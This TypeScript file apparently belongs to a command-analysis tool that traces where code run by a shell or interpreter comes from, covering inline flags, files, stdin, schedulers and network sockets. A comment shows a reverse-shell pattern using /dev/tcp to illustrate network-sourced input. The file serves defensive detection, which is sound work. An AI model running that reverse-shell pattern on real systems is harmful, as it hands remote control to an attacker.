import type { RunSource } from "../../schema/facts.ts";
import { type Arguments, given, valueOf } from "../programs/grammar.ts";
import { shellNames } from "../programs/shells.ts";
import type { Draft } from "../shell/draft.ts";
import type { Field } from "../shell/fields.ts";
import { familyOf } from "../shell/names.ts";
import { readsSocket, touchesSocket } from "../shell/origins.ts";
import { originIn } from "../shell/written.ts";

/** Options that hold code, by interpreter, and those that make it run no code from its operands or input. */
interface Interpreter {
  readonly code: readonly string[];
  readonly other?: readonly string[];
  /** Options that name a file with the code. */
  readonly files?: readonly string[];
}

const interpreters: ReadonlyMap<string, Interpreter> = new Map<string, Interpreter>([
  ["python", { code: ["-c"], other: ["-m"] }],
  ...["node", "nodejs", "bun-node", "deno-run"].map(
    (name) => [name, { code: ["--eval", "--print"], other: ["--check"] }] as const,
  ),
  ["java", { code: [], files: ["-jar", "-cp", "-classpath"] }],
  ["perl", { code: ["-e", "-E"] }],
  ["ruby", { code: ["-e"] }],
  ["php", { code: ["--run"], other: ["-S"] }],
  ...["lua", "luajit", "Rscript", "R", "osascript", "groovy"].map((name) => [name, { code: ["-e"] }] as const),
  ...[
    "tsx",
    "ts-node",
    "jiti",
    "esno",
    "esr",
    "vite-node",
    "babel-node",
    "swc-node",
    "ts-node-esm",
    "swift",
    "julia",
    "elixir",
    "scala",
    "tclsh",
    "expect",
    "guile",
    "racket",
  ].map((name) => [name, { code: ["--eval"] }] as const),
  ...["fish", "csh", "tcsh", "nu", "pwsh", "powershell", "xonsh", "elvish", "ion", "murex", "osh"].map(
    (name) => [name, { code: ["--command"] }] as const,
  ),
]);
const shells: ReadonlySet<string> = new Set(shellNames);

/** Where the code comes from that a command runs; empty for a program that runs no code given to it. */
export function codeSource(draft: Draft, args: Arguments): RunSource {
  const name = familyOf(draft.program);
  if (shells.has(name)) return shellSource(draft, args);
  if (name === "eval") return originIn(draft.args).origin ?? "text";
  const [first] = args.operands;
  if (name === "source" || name === ".") return first ? fileSource(draft, first) : "";
  if (name === "crontab" || name === "at" || name === "batch") return scheduled(draft, args);
  const row = interpreters.get(name);
  if (!row) return draft.name.origin ?? (draft.name.holds ? "file" : "");
  for (const option of row.code) {
    const value = valueOf(args, option);
    if (value || given(args, option)) return value?.origin ?? "text";
  }
  for (const option of row.files ?? []) {
    const file = valueOf(args, option);
    if (file) return fileSource(draft, file);
  }
  if (row.other?.some((option) => given(args, option))) return "";
  return first ? fileSource(draft, first) : inputSource(draft);
}

function shellSource(draft: Draft, args: Arguments): RunSource {
  const [first] = args.operands;
  if (given(args, "-c")) return first?.origin ?? "text";
  // `sh -i >& /dev/tcp/host/port 0>&1`: the connection is its input too.
  if (!first && draft.redirects.some(touchesSocket)) return "network";
  return first && !given(args, "-s") ? fileSource(draft, first) : inputSource(draft);
}

function scheduled(draft: Draft, args: Arguments): RunSource {
  const file = draft.program === "crontab" ? args.operands[0] : valueOf(args, "-f");
  return file ? fileSource(draft, file) : inputSource(draft);
}

function fileSource(draft: Draft, file: Field): RunSource {
  if (file.text === "-" || file.text === "/dev/stdin" || file.text === "/proc/self/fd/0") return inputSource(draft);
  return file.origin ?? (file.text.startsWith("/dev/fd/") ? "input" : "file");
}

function inputSource(draft: Draft): RunSource {
  if (draft.redirects.some(readsSocket)) return "network";
  const origin = draft.input?.atom?.origin;
  if (origin) return origin;
  const redirect = draft.redirects.findLast((one) => one.descriptor <= 0 && one.operator.startsWith("<"));
  if (redirect) return redirect.data ? (redirect.data.origin ?? "text") : (redirect.target?.origin ?? "file");
  return draft.input === undefined && draft.pipedFrom < 0 ? "" : "input";
}
